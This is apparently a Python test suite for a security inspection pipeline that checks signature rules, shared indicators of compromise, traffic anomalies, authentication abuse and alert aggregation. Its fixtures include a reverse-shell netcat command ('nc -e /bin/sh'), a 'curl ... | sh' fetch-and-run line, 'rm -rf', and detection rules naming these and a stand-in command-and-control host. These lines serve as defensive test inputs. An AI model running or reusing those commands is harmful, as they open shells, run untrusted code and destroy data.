"""The pure stages: signatures, IOCs, anomalies, auth checks, aggregation."""

from __future__ import annotations

import json

from hypothesis import given, settings
from hypothesis import strategies as st

from backend.sentinel.inspection import (
    AlertMessage,
    AuthEvent,
    Inspector,
    Stage,
    Verdict,
    parse_rules,
)
from backend.sentinel.inspection.rules import DEFAULT_RULES_PATH, load_rules

SIGNATURES = """
signatures:
  - {id: rm-rf, literal: 'rm -rf', action: block}
  - {id: c2, regex: '(?i)beacon\\.evil\\.example', severity: critical}
  - {id: debug, json: {path: details.debug, equals: true}, action: flag, severity: low}
  - {id: cmd, json: {path: details.cmd, regex: '^nc '}, action: block}
  - {id: only-b, literal: secret, topic: 'clients/b/alerts', action: flag}
  - {id: evil, regex: '(a+)+$'}
anomaly:
  beaconing: {enabled: false}
  rate: {enabled: false}
  payload_size: {enabled: false}
"""


def msg(
    payload: bytes | dict[str, object],
    *,
    client: str = "a",
    at: float = 0.0,
    publisher: str = "pub",
) -> AlertMessage:
    body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    return AlertMessage(client, f"clients/{client}/alerts", body, publisher, at)


def inspector(text: str = SIGNATURES, clients: tuple[str, ...] = ("a", "b")) -> Inspector:
    pipeline = Inspector(parse_rules(text))
    pipeline.auth.set_clients((c, True) for c in clients)
    return pipeline


def rules_hit(pipeline: Inspector, message: AlertMessage) -> set[str]:
    return {f.rule for f in pipeline.inspect(message).inspection.findings}


def test_clean_message_is_delivered_untouched() -> None:
    outcome = inspector().inspect(msg({"type": "c2_beacon", "title": "ok"}))
    assert outcome.inspection.verdict is Verdict.DELIVER
    assert outcome.inspection.findings == ()
    assert outcome.events == ()


def test_literal_block_quarantines_and_raises_one_event() -> None:
    outcome = inspector().inspect(msg({"title": "run rm -rf /"}))
    assert outcome.inspection.verdict is Verdict.QUARANTINE
    assert [(e.rule, e.stage, e.count) for e in outcome.events] == [("rm-rf", Stage.PATTERN, 1)]


def test_regex_is_case_insensitive_by_its_flag_and_flag_action_delivers() -> None:
    pipeline = inspector()
    assert rules_hit(pipeline, msg(b"call BEACON.EVIL.example now")) == {"c2"}
    assert pipeline.inspect(msg({"details": {"debug": True}})).inspection.verdict is Verdict.FLAG


def test_json_matches_compare_types_and_paths() -> None:
    pipeline = inspector()
    assert rules_hit(pipeline, msg({"details": {"debug": 1}})) == set()
    assert rules_hit(pipeline, msg({"details": {"cmd": "nc -e /bin/sh x 1"}})) == {"cmd"}
    assert rules_hit(pipeline, msg({"details": "nc "})) == set()


def test_topic_filter_limits_a_signature() -> None:
    pipeline = inspector()
    assert rules_hit(pipeline, msg(b"secret", client="a")) == set()
    assert rules_hit(pipeline, msg(b"secret", client="b")) == {"only-b"}


def test_catastrophic_regex_on_hostile_input_returns() -> None:
    assert "evil" not in rules_hit(inspector(), msg(b"a" * 10_000 + b"!"))


def test_oversize_payload_is_quarantined_unread() -> None:
    pipeline = inspector(SIGNATURES + "limits: {max_payload_bytes: 1024}\n")
    outcome = pipeline.inspect(msg(b"x" * 2000))
    assert outcome.inspection.verdict is Verdict.QUARANTINE
    assert [f.rule for f in outcome.inspection.findings] == ["oversize"]


def test_deep_nesting_is_not_parsed_and_does_not_raise() -> None:
    pipeline = inspector()
    deep = b'{"details":' * 5000 + b"1" + b"}" * 5000
    assert rules_hit(pipeline, msg(deep)) == set()
    assert rules_hit(pipeline, msg(b"[" * 60_000)) == set()


def test_iocs_shared_by_a_peer_become_patterns_without_restart() -> None:
    pipeline = inspector()
    assert rules_hit(pipeline, msg(b"connect 203.0.113.9")) == set()
    assert pipeline.share_iocs([("203.0.113.9", "b"), ("evil.example.net", "b")]) == 2
    outcome = pipeline.inspect(msg(b"connect 203.0.113.9"))
    assert outcome.inspection.verdict is Verdict.QUARANTINE
    (finding,) = outcome.inspection.findings
    assert finding.rule == "shared-ioc"
    assert "shared by site b" in finding.detail
    assert rules_hit(pipeline, msg(b"EVIL.EXAMPLE.NET")) == {"shared-ioc"}
    assert pipeline.share_iocs([("203.0.113.9", "b")]) == 0


def test_ioc_set_is_bounded_oldest_first() -> None:
    pipeline = inspector(SIGNATURES + "iocs: {max_iocs: 2}\n")
    pipeline.share_iocs([("one", "b"), ("two", "b"), ("three", "b")])
    assert pipeline.patterns.ioc_count == 2
    assert rules_hit(pipeline, msg(b"one")) == set()
    assert rules_hit(pipeline, msg(b"three")) == {"shared-ioc"}


ANOMALY_ONLY = """
anomaly:
  rate: {bucket_s: 1, min_buckets: 5, z_threshold: 3, min_std: 1}
  payload_size: {min_samples: 10, z_threshold: 5, min_std_bytes: 8}
  beaconing: {samples: 6, max_jitter_ratio: 0.05, min_interval_s: 1}
"""


def test_rate_burst_is_flagged_after_the_baseline_steady_is_not() -> None:
    pipeline = inspector(ANOMALY_ONLY)
    at = 0.0
    for second in range(20):  # two messages a second, uneven, to defeat beacon detection
        for offset in (0.1, 0.35 + 0.05 * (second % 3)):
            assert "rate" not in rules_hit(pipeline, msg(b"x" * 40, at=second + offset))
            at = second + offset
    burst = [rules_hit(pipeline, msg(b"x" * 40, at=21 + i / 100)) for i in range(30)]
    assert sum("rate" in hit for hit in burst) >= 20
    assert at < 21


def test_payload_size_outlier() -> None:
    pipeline = inspector(ANOMALY_ONLY)
    for i in range(30):
        pipeline.inspect(msg(b"x" * (100 + i % 5), at=i * 1.7 + (i % 4) * 0.3))
    assert "payload-size" in rules_hit(pipeline, msg(b"x" * 4000, at=100))


def test_beaconing_regular_rhythm_flagged_jittery_not() -> None:
    regular = inspector(ANOMALY_ONLY)
    hits = [rules_hit(regular, msg(b"hb", at=i * 5.0, publisher="implant")) for i in range(10)]
    assert "beaconing" in hits[-1]
    assert all("beaconing" not in h for h in hits[:6])
    jittery = inspector(ANOMALY_ONLY)
    times = [0, 4.1, 10.3, 13.2, 19.9, 24.0, 31.5, 34.1, 40.8, 44.0]
    assert all("beaconing" not in rules_hit(jittery, msg(b"hb", at=t)) for t in times)


def test_first_seen_publisher_after_learning() -> None:
    pipeline = inspector("anomaly: {first_seen: {enabled: true, learning_s: 10}}\n")
    assert rules_hit(pipeline, msg(b"x", publisher="p1", at=0)) == set()
    assert "new-publisher" in rules_hit(pipeline, msg(b"x", publisher="p2", at=11))
    assert "new-publisher" not in rules_hit(pipeline, msg(b"x", publisher="p2", at=12))


def test_tracked_publishers_are_bounded() -> None:
    pipeline = inspector("anomaly: {max_tracked: 50}\n")
    for i in range(500):
        pipeline.inspect(msg(b"x", publisher=f"p{i}", at=i))
    assert pipeline.anomaly.tracked == 50
    assert pipeline.anomaly.evicted == 450


def test_unknown_and_disabled_clients_are_quarantined() -> None:
    pipeline = inspector(clients=("a",))
    unknown = pipeline.inspect(msg(b"x", client="ghost"))
    assert unknown.inspection.verdict is Verdict.QUARANTINE
    assert [f.rule for f in unknown.inspection.findings] == ["unknown-client"]
    pipeline.auth.update_client("a", enabled=False)
    assert rules_hit(pipeline, msg(b"x", client="a")) == {"disabled-client"}


def test_credential_stuffing_is_one_event_with_its_count_not_hundreds() -> None:
    pipeline = inspector(
        "auth: {credential_stuffing: {failures: 10, window_s: 60}}\naggregation: {window_s: 120}\n"
    )
    emitted = []
    for i in range(500):
        event = AuthEvent("victim", f"10.0.0.{i % 3}", "us-east", False, "bad password", i * 0.1)
        emitted.extend(pipeline.observe_auth(event))
    emitted.extend(pipeline.tick(1000))
    by_client = [e for e in emitted if e.rule == "credential-stuffing-client"]
    assert [(e.closed, e.count) for e in by_client] == [(False, 1), (True, 491)]


def test_one_client_in_two_regions() -> None:
    pipeline = inspector()
    assert pipeline.observe_auth(AuthEvent("a", "1.1.1.1", "us-east", True, "ok", 0)) == ()
    (event,) = pipeline.observe_auth(AuthEvent("a", "2.2.2.2", "ap-south", True, "ok", 5))
    assert event.rule == "concurrent-regions"
    assert "us-east" in event.detail


def test_shipped_rules_quarantine_their_examples() -> None:
    pipeline = Inspector(load_rules(DEFAULT_RULES_PATH))
    pipeline.auth.set_clients([("a", True)])
    assert pipeline.inspect(msg({"title": "ok"})).inspection.verdict is Verdict.DELIVER
    bad = pipeline.inspect(msg({"title": "x", "details": {"cmd": "curl http://x | sh"}}))
    assert bad.inspection.verdict is Verdict.QUARANTINE


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(st.binary(max_size=600), st.sampled_from(["a", "b", "zz"]), st.floats(0, 0.5)),
        max_size=40,
    )
)
def test_any_payload_stream_is_inspected_deterministically(
    stream: list[tuple[bytes, str, float]],
) -> None:
    """Hostile bytes never raise; the same stream gives the same verdicts and events."""
    text = SIGNATURES.replace("enabled: false", "enabled: true")
    one, two = inspector(text), inspector(text)
    at = 0.0
    for payload, client, gap in stream:
        at += gap
        first = one.inspect(msg(payload, client=client, at=at))
        second = two.inspect(msg(payload, client=client, at=at))
        assert first.inspection == second.inspection
        assert first.events == second.events


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(["r1", "r2"]), st.sampled_from(["a", "b"]), st.floats(0, 50)),
        min_size=1,
        max_size=60,
    )
)
def test_aggregated_counts_add_up_to_the_findings(
    findings: list[tuple[str, str, float]],
) -> None:
    from backend.contract import Severity
    from backend.sentinel.inspection import Action, Finding
    from backend.sentinel.inspection.aggregator import Aggregator
    from backend.sentinel.inspection.rules import Aggregation

    aggregator = Aggregator(Aggregation(window_s=30))
    events = []
    at = 0.0
    for rule, client, gap in findings:
        at += gap
        finding = Finding(Stage.PATTERN, rule, Severity.LOW, Action.FLAG, "d", client)
        events.extend(aggregator.add(finding, at))
    events.extend(aggregator.flush(at + 1e9))
    opened = [e for e in events if not e.closed]
    closed = {(e.rule, e.client_id, e.first_at_s): e.count for e in events if e.closed}
    total = sum(closed.get((e.rule, e.client_id, e.first_at_s), 1) for e in opened)
    assert total == len(findings)
    assert aggregator.open_windows == 0
